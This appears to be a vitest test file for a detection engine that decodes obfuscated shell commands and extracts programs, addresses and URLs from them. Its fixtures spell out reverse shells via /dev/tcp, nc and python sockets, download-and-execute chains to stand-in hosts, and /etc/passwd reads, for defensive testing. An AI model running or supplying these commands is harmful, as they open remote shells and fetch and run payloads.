import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { commandParts, simpleCommands } from '../../../engine/rules/command-parts.ts'
import { decodeCommand } from '../../../engine/rules/decode-command.ts'

const b64 = (text: string) => Buffer.from(text).toString('base64')
const last = (command: string) => decodeCommand(command).layers.map((layer) => `${layer.method}: ${layer.text}`)

describe('decodeCommand', () => {
  it.each([
    ['echo Y3VybCAtcyBodHRwOi8v | base64 -d | sh', ['base64: curl -s http://']],
    ['bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}', ['brace expansion: bash -c echo aWQ=|base64 -d|bash -i', 'base64: id']],
    ['sh -c echo VULN$((6*7))', ['arithmetic: sh -c echo VULN42']],
    ['echo $((2*(3+4)-1)) $[10/3]', ['arithmetic: echo 13 3']],
    ['sh -c cat${IFS}/etc/passwd', ['field separator: sh -c cat /etc/passwd']],
    ["sh -c w''hoa''mi; ca\\t /etc/passwd", ['empty quotes: sh -c whoami; cat /etc/passwd']],
    ['printf \\x69\\x64 | sh', ['backslash escapes: printf id | sh']],
    ["$'\\151\\144'", ['backslash escapes: id']],
    ["bash -c $'\\x63url\\t-s' x", ['backslash escapes: bash -c curl\t-s x']],
    ['echo -e \\0151\\0144 | sh', ['backslash escapes: echo -e id | sh']],
    ['printf "\\143\\141\\164 /etc/passwd"', ['backslash escapes: printf "cat /etc/passwd"']],
    ['sh -c echo dwssap/cte/ tac | rev | sh', ['reversed text: cat /etc/passwd']],
    ["rev <<< 'hs | lruc'", ['reversed text: curl | sh']],
    ["python3 -c exec('di'[::-1])", ['reversed text: id']],
    [`echo ${Buffer.from('echo di | rev').toString('base64')} | base64 -d`, ['base64: echo di | rev', 'reversed text: id']],
    ['echo $((0x20+010)) $((16#ff)) $((1<<4|3)) $((2**10)) $((~0))', ['arithmetic: echo 40 255 19 1024 -1']],
    ['echo 2f62696e2f7368 | xxd -r -p', ['hex: /bin/sh']],
    ['git log --reverse; rev file.txt', []],
    ['sh -c echo 6964 | xxd -r -p | sh', ['hex: id']],
    ['python3 -c %69%6d%70%6f%72%74', ['URL encoding: python3 -c import']],
    [`sh -c echo ${b64('sh -c id')} | base64 -d`, ['base64: sh -c id']],
    [`pwsh -enc ${Buffer.from('whoami', 'utf16le').toString('base64')}`, ['base64: whoami']],
    ['sh -c id', []],
    ['find / -name {a;b} ${HOME} {1..9}', []],
    ['sh -c /usr/bin/convert /var/www/html/wp-content/uploads/2025/a.jpg -resize 300x200', []],
    ['sha256sum d1d59e3afb586da200a921ccd8ebe242acd3f7c970fb111cc8d288ca9f7ccf8c', []],
    ['echo $((1/0)) $((a+1)) $((', []],
    ['echo $((1#1)) $((2**99)) $((3#9)) $((()))', []]
  ])('%s', (command, layers) => {
    expect(last(command)).toEqual(layers)
  })

  it('follows layer in layer, to a depth', () => {
    const inner = `echo ${b64('curl http://203.0.113.7/a | sh')} | base64 -d | sh`
    expect(last(`sh -c echo ${b64(inner)} | base64 -d | sh`)).toEqual([
      `base64: ${inner}`,
      'base64: curl http://203.0.113.7/a | sh'
    ])
    let deep = 'id'
    for (let i = 0; i < 12; i++) deep = `echo ${b64(deep)} | base64 -d`
    expect(decodeCommand(deep)).toMatchObject({ truncated: true })
    expect(decodeCommand(deep).layers.length).toBeLessThan(12)
  })

  it('names packed data instead of showing bytes', () => {
    expect(last(`echo ${Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]).toString('base64')} | base64 -d | gunzip`)).toEqual([
      'base64: (10 bytes of gzip data)'
    ])
  })

  it('ends on anything, fast', () => {
    const started = performance.now()
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom('$((', ')', '{', ',', '}', '%41', '\\x4', 'aWQ=', ' ', "'", '|', 'base64 ', '>', '(', '\\', '6'),
          maxLength: 300
        }),
        (text) => {
          const { decoded } = commandParts(text)
          expect(decoded.layers.length).toBeLessThanOrEqual(32)
        }
      ),
      { seed: 31, numRuns: 300 }
    )
    for (const piece of ['$((', '{a,', '%41', '\\x41', 'QUJD', "'", '/a', 'a.', '1.2.3.', 'nc ', '(((', 'http://'])
      commandParts(piece.repeat(30_000))
    expect(performance.now() - started).toBeLessThan(20_000)
  })
})

describe('commandParts', () => {
  const parts = (command: string) => {
    const { decoded: _, ...rest } = commandParts(command)
    return Object.fromEntries(Object.entries(rest).filter(([, values]) => values.length > 0))
  }
  it.each([
    [
      'sh -c curl -s http://203.0.113.7:8080/a -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a',
      {
        programs: ['sh', 'curl', 'chmod', '.a'],
        addresses: ['203.0.113.7'],
        ports: [8080],
        urls: ['http://203.0.113.7:8080/a'],
        paths: ['/tmp/.a']
      }
    ],
    [
      "sh -c bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'",
      { programs: ['sh', 'bash'], addresses: ['203.0.113.7'], ports: [443] }
    ],
    [
      'sh -c rm -f /tmp/p; mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc 203.0.113.7 9001 > /tmp/p',
      { programs: ['sh', 'rm', 'mkfifo', 'nc'], addresses: ['203.0.113.7'], ports: [9001], paths: ['/tmp/p'] }
    ],
    [
      `bash -c {echo,${b64('wget -qO- https://drop.example.net/x | sh')}}|{base64,-d}|{bash,-i}`,
      { programs: ['bash', 'echo', 'base64', 'wget', 'sh'], hosts: ['drop.example.net'], urls: ['https://drop.example.net/x'] }
    ],
    ['/bin/sh -c /usr/sbin/sendmail -t -i', { programs: ['sh', 'sendmail'], paths: ['/bin/sh', '/usr/sbin/sendmail'] }],
    [
      `python3 -c 'import socket;s.connect(("198.51.100.4",4444))'`,
      { programs: ['python3'], addresses: ['198.51.100.4'], ports: [4444] }
    ],
    [
      'sudo -n env A=1 timeout 5 ssh -p 22 root@bastion.example.org id',
      { programs: ['sudo', 'env', 'timeout', 'ssh'], hosts: ['bastion.example.org'] }
    ],
    ['sh -c cat wp-config.php | grep version 10.2.3', { programs: ['sh', 'cat', 'grep'] }]
  ])('%s', (command, expected) => {
    expect(parts(command)).toEqual(expected)
  })

  it('splits as a shell does, quotes respected', () => {
    expect(simpleCommands(`a "b;c" 'd|e' >f 2>&1 | g $(h i) && it's`)).toEqual([['a', 'b;c', 'd|e'], ['g'], ['h', 'i'], ["it's"]])
  })
})
